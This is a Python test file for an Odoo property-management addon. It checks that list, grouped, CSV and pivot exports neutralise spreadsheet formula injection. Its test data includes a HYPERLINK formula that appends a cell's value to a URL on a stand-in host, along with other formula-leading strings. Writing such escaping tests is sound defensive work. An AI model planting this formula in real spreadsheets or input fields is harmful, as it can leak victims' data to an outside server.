# Copyright 2026 Property Service Suite contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""What somebody typed is no formula in the workbook of whoever exports it: lists as XLSX and CSV, groups, pivots."""

import csv
import io
import json

import openpyxl

from odoo import http
from odoo.fields import Command
from odoo.tests import HttpCase, tagged

from .common import PropertyCommon

FORMULA = '=HYPERLINK("http://example.com?"&A2)'
NAMES = (FORMULA, "{=A1}", "@SUM(A1)", "+8613800000000", "-1", "Ordinary")


@tagged("post_install", "-at_install")
class TestExport(PropertyCommon, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.posts = cls.env["property.post"].create(
            [{"name": name, "code": str(number), "estate_id": cls.estate.id} for number, name in enumerate(NAMES)]
        )
        cls.user_supervisor.group_ids = [Command.link(cls.env.ref("base.group_allow_export").id)]

    def export(self, path, **more):
        self.authenticate(self.user_supervisor.login, self.user_supervisor.login)
        asked = {
            "model": "property.post",
            "fields": [{"name": "name", "label": "=Name", "type": "char"}],
            "ids": self.posts.ids,
            "domain": [],
            "import_compat": False,
            **more,
        }
        data = {"data": json.dumps(asked), "csrf_token": http.Request.csrf_token(self)}
        return self.url_open(path, data=data).content

    def cells(self, content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value]

    def test_a_list_holds_text_as_it_is(self):
        cells = self.cells(self.export("/web/export/xlsx"))
        self.assertEqual(sorted(cells), sorted((text, "s") for text in ("=Name", *NAMES)))

    def test_a_grouped_list_holds_text_too(self):
        cells = self.cells(self.export("/web/export/xlsx", groupby=["name"]))
        self.assertIn((f"{FORMULA} (1)", "s"), cells)
        self.assertIn((FORMULA, "s"), cells)
        self.assertEqual({kind for _text, kind in cells}, {"s"})

    def test_a_csv_marks_every_beginning_of_a_formula(self):
        lines = csv.reader(io.StringIO(self.export("/web/export/csv").decode("utf-8-sig")))
        found = [line[0] for line in lines][1:]
        self.assertEqual(
            sorted(found), sorted(["'" + FORMULA, "{=A1}", "'@SUM(A1)", "'+8613800000000", "'-1", "Ordinary"])
        )

    def test_a_csv_is_imported_as_it_was(self):
        self.posts[0].name = "'" + FORMULA
        sheet = self.env["base_import.import"].create(
            {"res_model": "property.post", "file": self.export("/web/export/csv"), "file_type": "text/csv"}
        )
        _length, rows = sheet._read_csv({"separator": ",", "quoting": '"', "encoding": "utf-8-sig"})
        self.assertEqual(sorted(row[0] for row in rows[1:]), sorted(["'" + FORMULA, *NAMES[1:]]))

    def test_a_pivot_holds_no_formula(self):
        shown = {
            "title": "Posts",
            "model": "property.post",
            "measure_count": 1,
            "col_group_headers": [[{"title": FORMULA, "width": 1, "height": 1}]],
            "measure_headers": [{"title": "{=A1}", "is_bold": False}],
            "rows": [{"indent": 0, "title": FORMULA, "values": [{"value": FORMULA}, {"value": 7}]}],
        }
        self.authenticate(self.user_supervisor.login, self.user_supervisor.login)
        data = {"data": json.dumps(shown), "csrf_token": http.Request.csrf_token(self)}
        cells = self.cells(self.url_open("/web/pivot/export_xlsx", data=data).content)
        marked = "'" + FORMULA
        self.assertEqual(cells, [(marked, "s"), ("'{=A1}", "s"), (marked, "s"), (marked, "s"), (7, "n")])
